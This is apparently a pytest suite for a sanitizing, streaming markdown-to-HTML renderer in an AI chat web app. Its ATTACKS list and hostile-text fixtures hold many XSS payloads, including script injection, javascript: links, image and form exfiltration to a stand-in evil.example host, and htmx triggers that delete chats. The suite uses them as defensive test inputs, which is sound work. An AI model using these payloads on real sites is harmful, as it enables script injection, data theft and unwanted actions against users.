"""Rendering text as safe HTML."""

import re
import time
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from agents.engine.guardrails.normalization import readings
from agents.web.presentation.markdown import (
    StreamingMarkdown,
    highlighting,
    limits,
    render_markdown,
    rendering,
    streaming,
)
from agents.web.presentation.markdown.rendering import ATTRIBUTES, TAGS
from tests.examples import many
from tests.hostile_markdown import hostile_texts, ordinary_text
from tests.sampling import one_in

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/?q=secret'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src='//evil.example'>",
    "<form action='//evil.example'><input name=password></form>",
    "<style>@import '//evil.example';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<div hx-get='/chat/1/delete/' hx-trigger='load'>x</div>",
    "<div data-hx-post='/chat/1/delete/' data-hx-trigger='load'>x</div>",
    "<div hx-on:click='alert(1)'>x</div>",
    "<div ws-connect='/ws/chat/1/'>x</div>",
    "<div id='composer' class='x'>x</div>",
    "<template><script>alert(1)</script></template>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example 'a\" onmouseover=\"alert(1)')",
    '[x](http://a.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x](http://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    '![a" onerror="alert(1)](http://evil.example)',
    "[![x](http://evil.example/pixel)](http://evil.example)",
    "![x][r]\n\n[r]: http://evil.example/pixel",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover=alert(1)\nx\n```',
    "``` <img src=x onerror=alert(1)>\nx\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "- <img src=x onerror=alert(1)>\n  > <script>alert(1)</script>",
    "**<b onclick=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u202e<script>alert(1)</script>",
    "<a\u2028href='javascript:alert(1)'>x</a>",
    "</div></section><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
]


class Seen(HTMLParser):
    """Collects every element and attribute a browser would create."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.links = set(), set(), []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name == "href":
                self.links.append(value)

    def handle_comment(self, data):
        self.tags.add("comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


ALLOWED = {(tag, name) for tag, names in ATTRIBUTES.items() for name in names} | {("a", "rel")}


def assert_harmless(html):
    seen = Seen(html)
    assert seen.tags <= TAGS
    assert seen.attributes <= ALLOWED
    for link in seen.links:
        assert not re.match(r"\s*(javascript|data|vbscript|file):", link, re.IGNORECASE)


@pytest.mark.parametrize("text", ATTACKS)
def test_any_text_becomes_safe_html(text):
    assert_harmless(render_markdown(text))

    growing = StreamingMarkdown()
    html = "".join(growing.feed(character) for character in text) + growing.tail_html
    assert_harmless(html)


@given(st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "`", "*", "> ", "- ", "|"])))
@many(60)
def test_mixed_attacks_become_safe_html(parts):
    assert_harmless(render_markdown("".join(parts)))


@given(st.text(max_size=200) | st.sampled_from(ATTACKS))
@many(150)
def test_sanitizing_clean_html_changes_nothing(text):
    html = render_markdown(text)

    assert nh3.clean(html, tags=TAGS, attributes=ATTRIBUTES, link_rel=REL) == html


REL = "noopener noreferrer nofollow"


def test_an_image_becomes_a_link():
    html = render_markdown("![A **chart**](http://shop.example/chart.png)")

    assert "<img" not in html
    assert f'<a href="http://shop.example/chart.png" rel="{REL}">' in html


def test_code_is_highlighted_with_classes_only():
    html = render_markdown("```python\ndef answer(): return 42\n```")

    assert '<pre class="code"><code class="language-python">' in html
    assert '<span class="k">def</span>' in html
    assert "style" not in html


@pytest.mark.parametrize("language", ["", "nothing-of-the-kind", "text", "c++", "<b>"])
def test_code_of_any_language_is_shown(language):
    html = render_markdown(f"```{language}\na < b\n```")

    assert re.sub("<[^>]+>", "", html) == "a &lt; b\n\n"


def test_a_table_keeps_its_alignment():
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |")

    assert '<th class="left">a</th>' in html
    assert '<td class="right">2</td>' in html


@pytest.mark.parametrize(
    ("text", "math"),
    [
        (r"a \(x^2 < 3\) b", ['<span class="math">\\(x^2 &lt; 3\\)</span>']),
        (r"a \[x\] b $$y$$ c", ["\\[x\\]", "$$y$$"]),
        (
            "So:\n\\[\na\n+ b\n- c\n\\]\nthen",
            ['<div class="math display">\\[a\n+ b\n- c\\]</div>'],
        ),
        ("$$\n\\frac{1}{2}\n$$", ["$$\\frac{1}{2}$$"]),
        ("- so\n\n  $$\n  x\n  $$", ["$$x$$"]),
        ("$E=mc^2$, ($a_1$) and $\\$5$.", ["$E=mc^2$", "$a_1$", "$\\$5$"]),
        ("**$x$** は $2^n$ です、$n$。", ["$x$", "$2^n$", "$n$"]),
        ("It costs $5 and $x$ is math.", ["$x$"]),
    ],
)
def test_math_is_rendered_as_its_source(text, math):
    html = render_markdown(text)

    assert html.count('class="math') == len(math)
    assert all(each in html for each in math)


@pytest.mark.parametrize(
    "text",
    [
        "It costs $5, not $6.",
        "Between $5-$10, $5 and $10, $5/$6k.",
        "US$5, A$6, 5$ or 6$ or 7$.",
        "$HOME/$USER and $PATH:$HOME",
        "Cost ($), price ($), $ 5 $",
        r"\$5 and 6\$",
        "`$x$`",
        r"`\(x\)`",
        "```\n$$x$$\n```",
        r"\\(x\\)",
        "$$\n\nx$$",
        r"\( `\)`",
        r"\(\)",
        "$$$$",
        "From $10 to 12 US$ each, or $10k, say, in US$.",
    ],
)
def test_prices_and_code_are_not_math(text):
    assert 'class="math' not in render_markdown(text)


def test_a_price_is_never_a_formula_while_it_is_streamed():
    text = "Between $5-$10 or US$20, and $E=mc^2$."
    growing = StreamingMarkdown()
    drawn = []
    for char in text:
        growing.feed(char)
        drawn.append(growing.tail_html.count('class="math'))

    assert drawn == [0] * (len(text) - 1) + [1]


def test_a_task_list_item_has_a_checkbox():
    html = render_markdown("- [ ] open\n- [x] **done**\n- [y] no\n\n[x] no")

    assert html.count('<li class="task">') == 2
    assert '<span class="task-box">☐</span> open' in html
    assert '<span class="task-box">☑</span> <strong>done</strong>' in html


def test_footnotes_are_at_the_end_with_links_both_ways():
    text = "One[^b], two[^a], [^none].\n\n[^a]: *Later*\n[^b]: Sooner\n[^c]: Unused\n\nEnd"
    html = render_markdown(text)
    notes = html.partition('<div class="footnotes">')[2]

    assert notes.index("Sooner") < notes.index("<em>Later</em>") < notes.index("Unused")
    ids = set(re.findall(' id="([^"]+)"', html))
    assert set(re.findall('href="#([^"]+)"', html)) == {
        name for name in ids if "-3" not in name
    }
    assert "[^none]" in html
    assert not StreamingMarkdown("x[^a]\n\n[^a]: b").is_whole("x[^a]\n\n[^a]: b")


@pytest.mark.parametrize(
    ("levels", "tags"),
    [
        ("1 5", "3 4"),
        ("2 3 2 4 3 1 2", "3 4 3 4 4 3 4"),
        ("6 4 5", "3 3 4"),
        ("1 2 3 4 5 6", "3 4 5 6 6 6"),
    ],
)
def test_headings_skip_no_level_below_the_pages_own_and_keep_theirs_while_streamed(
    levels, tags
):
    text = "\n\n".join(f"{'#' * int(level)} Title\n\nText" for level in levels.split())
    html = render_markdown(text)
    streamed = StreamingMarkdown()
    for piece in text:
        streamed.feed(piece)
        assert html.startswith(streamed.frozen_html)

    assert re.findall(r"<h(\d)>Title</h\1>", html) == tags.split()
    assert streamed.whole == html


def test_null_characters_are_removed():
    assert render_markdown("a\0b") == "<p>ab</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        "word " * 200_000,
        "# heading\n\n" * 10_000,
        "*a " * 30_000,
        "[" * 20_000,
        "[a](" * 10_000,
        "`" * 60_000,
        "> " * 30_000,
        "- " * 30_000,
        "a\n" * 30_000,
        "|a" * 20_000 + "\n" + "|-" * 20_000,
        "```python\n" + "x = 1\n" * 100_000,
        "&#0;" * 60_000,
        "![" * 10_000,
        "<" * 200_000,
    ],
    ids=lambda text: text[:6],
)
def test_a_long_text_is_rendered_quickly(text):
    began = time.process_time()
    render_markdown(text)

    assert time.process_time() - began < 10


# Text that is still being written

DOCUMENTS = [
    "Price $5 or $6.\n\\[\na\n+ b\n- c\n\\]\nAfter \\(x\\), `\\(no\\)`\n\n$$\ny\n\nno math\n",
    "$$x$$\n\n$$x$$ in text\nmore\n\n$$\na\n```\ncode\n```\n\n> \\[\n> z\n> \\]\n\n$$ $$\n",
    "- [ ] a\n- [x] **b**\n\n  \\[\n  c\n  \\]\n- [x]\n\nText\n1. [X] d\n\\[ e\nf \\] g\n\nEnd",
    "One paragraph\nof two lines.\n\nAnother one, **bold** and `code`.\n",
    "# Title\n\nText\n\n## Below\n\n- one\n- two\n\n  still two\n- three\n\nAfter the list.\n",
    "Before\n\n```python\ndef f():\n\n    return 1\n\n```\n\nAfter\n\n    some\n\n    code\n",
    "| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |\n\nAfter the table.\n",
    "> a quote\nthat goes on\n\n> another\n\n---\n\nSetext\n======\n\nEnd\n***\nreally\n",
    "1. one\n\n   ```\n   code\n\n   more\n   ```\n2. two\n\n3. three\n\nDone\n",
    "足跡は**道**です。\n\n- 一\n- 二\n\n```\nコード\n```\n\n終わり\n",
    "Windows\r\nlines\r\n\r\n- a\r\n- b\r\n\r\n```\r\ncode\r\n\r\nmore\r\n```\r\n\r\nEnd\r\n",
    "Odd\u2028ends\x0b of\x0c lines\x85 here\u2029\n\n```\na\u2028b\n\nc\n```\n\nEnd\x1c\n",
    "Old\rMac\r\r```\rcode\r\rmore\r```\r\rEnd\n\n* * *\n\nEnd of\0 it all\n",
    "Old\r```\ncode\n\nmore\n```\n\nEnd\n",
    "~~~\nnever closed\n\nat all\n",
    "Para\n- list at once\n* another\n+ third\n\n\n\n1) one\n2) two\n\n<b>no html</b>\n\nx\n",
]


def render_in_pieces(document, cuts):
    edges = [0, *sorted(cut % (len(document) + 1) for cut in cuts), len(document)]
    growing = StreamingMarkdown()
    pairs = zip(edges, edges[1:], strict=False)
    html = "".join(growing.feed(document[start:end]) for start, end in pairs)
    return html + growing.tail_html


@given(st.sampled_from(DOCUMENTS), st.lists(st.integers(0, 500), max_size=12))
@example(DOCUMENTS[1], list(range(500)))
@example(DOCUMENTS[2], list(range(500)))
@many(150)
def test_streamed_markdown_equals_the_whole_in_the_end(document, cuts):
    assert render_in_pieces(document, cuts) == render_markdown(document)


@pytest.mark.parametrize("document", DOCUMENTS)
def test_markdown_streamed_by_characters_equals_the_whole(document):
    assert render_in_pieces(document, range(len(document))) == render_markdown(document)


def test_finished_blocks_are_not_rendered_again():
    growing = StreamingMarkdown()

    assert growing.feed("First.\n") == ""
    assert growing.feed("\nSec") == "<p>First.</p>\n"
    assert growing.tail == "Sec"


def test_a_list_continues_after_an_empty_line():
    growing = StreamingMarkdown()

    assert growing.feed("- one\n\n") == ""
    assert growing.feed("- two\n\nEnd.\n") != ""
    assert growing.tail == "End.\n"


@pytest.mark.parametrize(
    "line",
    [
        "Plain words, and more.",
        "Trailing ",
        "日本語の文です。",
        "a",
        "x@y.z (50% - or so)",
        "w:/",
    ],
)
def test_the_shortcut_for_plain_lines_equals_markdown(line):
    assert StreamingMarkdown(line).tail_html == rendering.render_safe(line, {})
    assert render_markdown(f"{line}\n\n") == rendering.render_safe(f"{line}\n\n", {})


@given(st.text("ab日9 ,.;:?()%/@-_*\n", max_size=30))
def test_shortcut_and_full_rendering_are_equal(text):
    assert StreamingMarkdown(text.replace("\n", "")).tail_html == (
        rendering.render_safe(text.replace("\n", ""), {})
    )
    assert render_markdown(text) == rendering.render_safe(text, {})


@pytest.mark.parametrize("document", DOCUMENTS)
def test_a_streamed_document_is_not_rendered_again_as_a_whole(document):
    growing = StreamingMarkdown()
    for at in range(0, len(document), 7):
        growing.feed(document[at : at + 7])

    assert growing.is_whole(document)
    assert growing.whole == render_markdown(document)


def test_blocks_with_link_references_are_rendered_together():
    document = "See [here].\n\n[here]: https://example.org\n"

    assert not StreamingMarkdown(document).is_whole(document)
    assert not StreamingMarkdown("Something").is_whole("Other")


def test_text_that_is_no_longer_plain_is_rendered_as_markdown():
    growing = StreamingMarkdown("Plain ")

    assert growing.tail_html == "<p>Plain</p>\n"
    growing.feed("and **bold**")
    assert growing.tail_html == "<p>Plain and <strong>bold</strong></p>\n"


LINKS = [
    "pro[ject]{}",
    "pro![ject]{}",
    "[pro]{}ject",
]
TARGETS = [
    "(https://a.example)",
    "(<https://a.example/b c>)",
    "(https://a.example 'title')",
    '(https://a.example "a\\"b")',
    "(https://a.example\n(title))",
    "( https://a.example )",
    "(https://a.example/(b(c)d)e)",
    "(https://a.example/((((b)))))",
    "(https://a.example/\\)b)",
    f"(https://a.example/{'b' * 3_000})",
    f"(https://a.example '{'b' * 300}')",
    f"({' ' * 200}https://a.example)",
    f"(https://a.example{' ' * 200})",
    "[1]",
    "[]",
]


@pytest.mark.parametrize("link", LINKS)
@pytest.mark.parametrize("target", TARGETS)
def test_streamed_markdown_has_only_text_released_by_guardrails(link, target):
    text = link.format(target) + "\n\n[1]: https://a.example\n[ject]: https://a.example\n"

    shown = re.sub("<[^>]*>", "", render_markdown(text))

    assert "project" not in shown or any("project" in read.text for read in readings(text))


# What it costs, counted

FLUSH = 200


def render_stream(text, flush=FLUSH):
    """Return the displayed text, and how much HTML was sent for it."""
    growing, sent = StreamingMarkdown(), 0
    for at in range(0, len(text), flush):
        sent += len(growing.feed(text[at : at + flush]))
        more = growing.take_more()
        sent += len(growing.tail_html if more is None else more)
    return growing, sent


@pytest.mark.thorough
@pytest.mark.parametrize("name", hostile_texts(1))
def test_rendering_work_grows_linearly_with_the_answer(name):
    text = hostile_texts(15_000)[name]
    flushes = len(text) // FLUSH + 1
    growing, sent = render_stream(text)

    # An open block below the limit, at every flush.
    small = 3 * streaming.SMALL_WEIGHT * flushes
    assert growing.work <= streaming.SCAN_BUDGET * limits.weight(text) + small
    assert sent < 40 * len(text)


@pytest.mark.parametrize("name", one_in(8, hostile_texts(1)))
def test_a_hostile_streamed_answer_equals_the_reloaded_one(name):
    text = hostile_texts(8_000)[name]
    growing, _ = render_stream(text)

    whole = growing.whole if growing.is_whole(text) else render_markdown(text)
    assert whole == render_markdown(text)


@pytest.mark.parametrize("name", one_in(3, hostile_texts(1)))
def test_hostile_text_becomes_safe_html(name):
    growing, _ = render_stream(hostile_texts(3_000)[name])

    html = growing.frozen_html + growing.tail_html
    ids = ' id="answer-rest"'
    assert html.count(ids) <= 1
    assert_harmless(html.replace(ids, ""))


def test_an_ordinary_answer_is_always_rendered_as_markdown():
    text = ordinary_text(30_000)
    growing = StreamingMarkdown()
    for at in range(0, len(text), 25):
        growing.feed(text[at : at + 25])
        assert "prose-rest" not in growing.tail_html


def test_text_after_a_long_open_block_is_appended_as_plain_text():
    growing, _ = render_stream("- **item**\n" * 400)
    while growing.take_more() is None:
        growing.tail_html  # noqa: B018
        growing.feed("- **item**\n")
    shown = growing.tail_html
    growing.feed("- **mo")

    assert growing.take_more() == "- **mo"
    growing.feed("re** <b>")
    assert growing.take_more() == "re** &lt;b&gt;"
    assert growing.tail_html.startswith(shown.partition("</span>")[0])
    assert growing.tail_html.endswith("- **more** &lt;b&gt;</span></li>\n</ul>\n")


def test_a_long_open_block_is_rendered_again_after_growing():
    growing, _ = render_stream("- **item**\n" * 2_000)

    assert growing.tail_html.count("<strong>") > 1_000


def test_a_long_list_ends_where_the_next_paragraph_begins():
    growing, _ = render_stream("- **item**\n" * 1_000)

    assert growing.feed("\nAfter the list.\n").count("<li>") == 1_000
    assert growing.tail == "After the list.\n"


def test_a_code_block_ends_with_its_closing_fence():
    growing = StreamingMarkdown("```python\n" + "x = [1]\n" * 900)

    assert growing.feed("```\n").count("</span>") > 900
    assert growing.tail == ""


def test_text_after_too_many_markup_characters_is_plain():
    text = "**a** " * 10 + "\n\n" + "**a** " * limits.MAX_MARKS + "\n\n**b**"
    html = render_markdown(text)

    assert html.count("<strong>") == 10
    assert html.endswith("<p>**b**</p>\n")


def test_text_with_too_many_lines_is_plain():
    text = "- <b>\n" * (limits.MAX_LINES + 1)

    html = render_markdown(text)
    assert html.startswith('<div class="prose-rest">- &lt;b&gt;\n')
    assert not StreamingMarkdown(text).is_whole(text)
    assert "<td>" not in render_markdown("|a|\n|-|\n" + "|b" * limits.MAX_PIPES)


def test_only_plausible_code_is_highlighted():
    words, long = "a " * 5_000, "x" * (highlighting.MAX_CODE_LINE_CHARS + 1)

    for code in (words, long, "a\n" * 2_000):
        assert "<span" not in render_markdown(f"```java\n{code}\n```")
    assert "<span" in render_markdown("```java\nint answer = 42;\n```")


def test_the_amount_of_highlighted_code_is_limited():
    block = "```python\n" + "x = [1]\n" * 1_000 + "```\n\n"
    html = render_markdown(block * 5)

    assert html.count("<pre") == 5
    assert sum("<span" in part for part in html.split("<pre")) == 2
    growing, _ = render_stream(block * 5)
    assert growing.whole == html


@pytest.mark.parametrize(
    ("text", "address", "rest"),
    [
        ("See https://example.com/a_b?x=1&y=2.", "https://example.com/a_b?x=1&amp;y=2", "."),
        ("(https://example.com/A_(b))", "https://example.com/A_(b)", ")"),
        ("詳細はhttps://example.com/xをご覧ください。", "https://example.com/x", "を"),
        (r"**https://example.com/x\_y**", "https://example.com/x_y", "</strong>"),
    ],
)
def test_a_bare_address_is_a_link(text, address, rest):
    assert f'<a href="{address}" rel="noopener noreferrer nofollow">{address}</a>{rest}' in (
        render_markdown(text)
    )
    growing, _ = render_stream(text)
    assert growing.whole == render_markdown(text)


def test_only_web_addresses_outside_code_and_links_become_links():
    text = "`https://a.example` javascript://b ftp://c https:// [https://d.example](https://e.example)"

    assert render_markdown(text).count("<a ") == 1


def test_the_number_of_linked_addresses_is_limited():
    assert "<a " not in render_markdown("https://a.example " * limits.MAX_MARKS)


def test_a_formula_that_is_still_being_written_is_its_source():
    growing = StreamingMarkdown("So:\n\n\\[\nx = \\frac{1}")

    assert growing.tail_html == '<div class="math-open">\\[\nx = \\frac{1}</div>\n'
    growing.feed("{2}\n\\]\n")
    assert '<div class="math display">' in growing.whole
    assert "math-open" not in render_markdown("\\[\nx = 1\n\nNo end.")


@pytest.mark.parametrize("rows", ["", "\n| 1 | 2 |\n| 3 | 4 |"])
@pytest.mark.parametrize("before", ["", "So:\n\n", "So:\n"])
def test_a_table_is_never_streamed_as_its_source(before, rows):
    text = f"{before}| a | b |\n|---|---:|{rows}"
    for end in range(len(before) + 1, len(text) + 1):
        html = StreamingMarkdown(text[:end]).tail_html
        assert "|" not in html
        assert ("<table>" in html) is (end > len(before) + 2)
    assert "<table>" not in StreamingMarkdown("```\n| a | b |\n").tail_html
